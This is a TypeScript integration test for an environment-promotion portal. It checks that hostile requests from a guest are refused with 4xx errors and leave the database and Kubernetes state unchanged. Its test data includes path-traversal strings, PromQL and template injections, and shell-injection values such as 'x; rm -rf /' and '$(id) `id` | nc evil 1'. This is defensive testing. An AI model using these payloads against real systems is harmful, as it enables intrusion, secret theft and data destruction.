/*
 * Hostile input against the running portal (scripts/test.d/73-trust-boundary.sh starts it), as a
 * signed-in guest: every case must be refused with a 4xx and a message that says why, no case may
 * get a 5xx, and a snapshot of the database rows and the cluster objects taken before and after
 * must be identical.
 */
import Database from 'better-sqlite3';
import { execFileSync } from 'node:child_process';
import { existsSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import request from 'supertest';
import {
  describeWithPortal,
  portalUnderTest,
} from './__testUtils__/portalUnderTest';

type Case = {
  name: string;
  method: 'get' | 'post';
  path: string;
  body?: unknown;
  /** Sent as raw text with this content type instead of JSON. */
  raw?: { type: string; text: string };
};

const entity = 'entities/component/default/express-service';
const env = '/api/environments';

/** Entity references that must never reach a catalog lookup. */
const HOSTILE_REFS = [
  ['traversal', 'entities/component/default/..%2F..%2Fetc%2Fpasswd'],
  [
    'traversal in namespace',
    'entities/component/..%2F..%2Fetc/express-service',
  ],
  ['NUL', 'entities/component/default/express%00-service'],
  ['10,000 characters', `entities/component/default/${'a'.repeat(10_000)}`],
  [
    'lookalike letters',
    `entities/component/default/${encodeURIComponent('exprеss-service')}`,
  ],
  ['kind with a space', 'entities/comp%20onent/default/express-service'],
  [
    'PromQL in the name',
    `entities/component/default/${encodeURIComponent('x"} or vector(1) #')}`,
  ],
  [
    'PromQL in the namespace',
    `entities/component/${encodeURIComponent('d",x="')}/express-service`,
  ],
] as const;

/** Stage names that are not a configured stage. */
const HOSTILE_STAGES = [
  'qa',
  'Staging',
  ' staging',
  'staging ',
  'dev"} or vector(1)',
  '../dev',
];

function cases(): Case[] {
  const all: Case[] = [];
  for (const [label, ref] of HOSTILE_REFS) {
    for (const route of ['status', 'checklist', 'metrics', 'promotions']) {
      all.push({
        name: `${label}: GET ${route}`,
        method: 'get',
        path: `${env}/${ref}/${route}`,
      });
    }
    all.push({
      name: `${label}: POST promotions`,
      method: 'post',
      path: `${env}/${ref}/promotions`,
      body: { from: 'dev', to: 'staging' },
    });
  }
  for (const stage of HOSTILE_STAGES) {
    const q = encodeURIComponent(stage);
    all.push({
      name: `stage "${stage}": status`,
      method: 'get',
      path: `${env}/${entity}/status?stage=${q}`,
    });
    all.push({
      name: `stage "${stage}": metrics`,
      method: 'get',
      path: `${env}/${entity}/metrics?stage=${q}`,
    });
    all.push({
      name: `stage "${stage}": checklist`,
      method: 'get',
      path: `${env}/${entity}/checklist?stage=${q}`,
    });
    all.push({
      name: `stage "${stage}": preview`,
      method: 'post',
      path: `${env}/${entity}/promotions/preview`,
      body: { from: 'dev', to: stage },
    });
    all.push({
      name: `stage "${stage}": promote`,
      method: 'post',
      path: `${env}/${entity}/promotions`,
      body: { from: stage, to: 'prod' },
    });
    all.push({
      name: `stage "${stage}": rollback`,
      method: 'post',
      path: `${env}/${entity}/rollbacks`,
      body: { stage },
    });
  }
  for (const range of ['1y', '1h) or (up', '-1h', '1h&step=0.001', '']) {
    all.push({
      name: `metrics range "${range}"`,
      method: 'get',
      path: `${env}/${entity}/metrics?range=${encodeURIComponent(range)}`,
    });
  }
  all.push(
    {
      name: 'unknown query parameter',
      method: 'get',
      path: `${env}/${entity}/status?query=up`,
    },
    {
      name: 'promotion id traversal',
      method: 'get',
      path: `${env}/promotions/..%2F..%2Fetc`,
    },
    {
      name: 'promotion id not a UUID',
      method: 'get',
      path: `${env}/promotions/1%20OR%201=1`,
    },
    {
      name: 'history paging out of range',
      method: 'get',
      path: `${env}/${entity}/promotions?limit=100000&offset=-1`,
    },
    {
      name: 'body with unknown fields',
      method: 'post',
      path: `${env}/${entity}/promotions`,
      body: { from: 'dev', to: 'staging', image: 'evil:latest' },
    },
    {
      name: 'body with wrong types',
      method: 'post',
      path: `${env}/${entity}/promotions`,
      body: { from: 1, to: ['staging'] },
    },
    {
      name: 'body that is an array',
      method: 'post',
      path: `${env}/${entity}/promotions`,
      body: [{ from: 'dev', to: 'staging' }],
    },
    {
      name: 'body of 5 MB',
      method: 'post',
      path: `${env}/${entity}/promotions`,
      body: {
        from: 'dev',
        to: 'staging',
        overrideReason: 'x'.repeat(5 * 1024 * 1024),
      },
    },
    {
      name: 'override reason of 100 kB',
      method: 'post',
      path: `${env}/${entity}/promotions`,
      body: {
        from: 'dev',
        to: 'staging',
        overrideReason: 'x'.repeat(100 * 1024),
      },
    },
    {
      name: 'rollback reason of 100 kB',
      method: 'post',
      path: `${env}/${entity}/rollbacks`,
      body: { stage: 'staging', reason: 'x'.repeat(100 * 1024) },
    },
    {
      name: 'idempotency key with shell metacharacters',
      method: 'post',
      path: `${env}/${entity}/promotions`,
      body: { from: 'dev', to: 'staging', idempotencyKey: '$(reboot);`id`' },
    },
    {
      name: 'malformed JSON',
      method: 'post',
      path: `${env}/${entity}/promotions`,
      raw: { type: 'application/json', text: '{"from": "dev", "to": ' },
    },
    {
      name: 'promotion to prod as the guest',
      method: 'post',
      path: `${env}/${entity}/promotions`,
      body: { from: 'staging', to: 'prod' },
    },
  );
  const goodValues = {
    name: 'hostile-probe',
    description: 'probe',
    owner: 'group:default/platform-team',
    system: 'system:default/delivery-platform',
    port: 8080,
    replicas: 1,
    provisionCloud: false,
    publishTarget: 'local',
  };
  const badValues: Array<[string, Record<string, unknown>]> = [
    ['name with ../', { name: '../etc' }],
    ['name with template syntax', { name: '${{ secrets.backstageToken }}' }],
    ['name with shell metacharacters', { name: 'x; rm -rf /' }],
    [
      'description with template syntax',
      { description: '{{ range }}${{ parameters }}' },
    ],
    [
      'description with shell metacharacters',
      { description: '$(id) `id` | nc evil 1' },
    ],
    ['description with ../', { description: 'see ../../etc/passwd' }],
    ['owner with shell metacharacters', { owner: 'group:default/x;id' }],
    ['system with traversal', { system: 'system:../../x' }],
    ['port below 1024', { port: 22 }],
    ['replicas of 1000', { replicas: 1000 }],
    ['publish target not offered', { publishTarget: 'file:///etc' }],
  ];
  for (const [label, values] of badValues) {
    all.push({
      name: `template parameter: ${label}`,
      method: 'post',
      path: '/api/scaffolder/v2/tasks',
      body: {
        templateRef: 'template:default/express-service',
        values: { ...goodValues, ...values },
      },
    });
  }
  return all;
}

describeWithPortal('hostile input, as a signed-in guest', () => {
  jest.setTimeout(300_000);
  const portal = portalUnderTest();
  const kubectl = (args: string[]) =>
    execFileSync(portal.kubectl, args, {
      encoding: 'utf8',
      env: { ...process.env, KUBECONFIG: portal.adminKubeconfig },
      maxBuffer: 64 * 1024 * 1024,
    });

  /** What a hostile request could change: the plugins' rows and the stages' objects. */
  function snapshot() {
    const dir = process.env.ENVPORTAL_PORTAL_IT_DB_DIR;
    if (!dir || !existsSync(dir))
      throw new Error('ENVPORTAL_PORTAL_IT_DB_DIR is not set');
    const rows: Record<string, unknown> = {};
    for (const file of readdirSync(dir).filter(f =>
      /environments|scaffolder/.test(f),
    )) {
      const db = new Database(join(dir, file), {
        readonly: true,
        fileMustExist: true,
      });
      try {
        const tables = db
          // The plugins' own tables; the service-to-service signing keys rotate by themselves, and the
          // scheduler records each run of the promotion takeover task.
          .prepare(
            "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'knex_%' AND name NOT LIKE 'backstage_backend_public_keys%' AND name NOT LIKE 'backstage_backend_tasks%'",
          )
          .all() as Array<{ name: string }>;
        for (const { name } of tables) {
          rows[`${file}/${name}`] = db
            .prepare(`SELECT * FROM "${name}" ORDER BY rowid`)
            .all();
        }
      } finally {
        db.close();
      }
    }
    const objects: Record<string, string> = {};
    for (const ns of ['dev', 'staging', 'prod']) {
      const list = JSON.parse(
        kubectl([
          '-n',
          ns,
          'get',
          'deployments,configmaps,secrets,services,roles,rolebindings',
          '-o',
          'json',
        ]),
      );
      for (const item of list.items) {
        // A Deployment's status moves with its pods; its spec is what a change would touch.
        objects[`${ns}/${item.kind}/${item.metadata.name}`] =
          item.kind === 'Deployment'
            ? `generation ${item.metadata.generation}`
            : item.metadata.resourceVersion;
      }
    }
    return { rows, objects };
  }

  it('refuses every case with a 4xx and a message, and changes nothing', async () => {
    const before = snapshot();
    const all = cases();
    const results: Array<{ name: string; status: number; message: string }> =
      [];
    for (const c of all) {
      let req = request(portal.baseUrl)
        [c.method](c.path)
        .set('Authorization', portal.guest);
      if (c.raw) req = req.set('Content-Type', c.raw.type).send(c.raw.text);
      else if (c.body !== undefined) req = req.send(c.body as object);
      const res = await req;
      const message =
        res.body?.error?.message ??
        (Array.isArray(res.body?.errors)
          ? res.body.errors
              .map(
                (e: { message?: string; stack?: string }) =>
                  e.stack ?? e.message,
              )
              .join('; ')
          : res.text);
      results.push({
        name: c.name,
        status: res.status,
        message: String(message ?? ''),
      });
    }
    const serverErrors = results.filter(r => r.status >= 500);
    const accepted = results.filter(r => r.status < 400);
    const silent = results.filter(
      r => r.status >= 400 && r.status < 500 && !r.message.trim(),
    );
    // eslint-disable-next-line no-console
    console.log(
      `MEASURE hostile cases ${results.length}: ${
        results.filter(r => r.status >= 400 && r.status < 500).length
      } refused with 4xx, ${serverErrors.length} server errors, ${
        accepted.length
      } accepted`,
    );
    expect(serverErrors).toEqual([]);
    expect(accepted).toEqual([]);
    expect(silent).toEqual([]);
    // No internal address in any refusal.
    expect(
      results.filter(r => /https?:\/\/|127\.0\.0\.1/.test(r.message)),
    ).toEqual([]);
    expect(snapshot()).toEqual(before);
  });
});
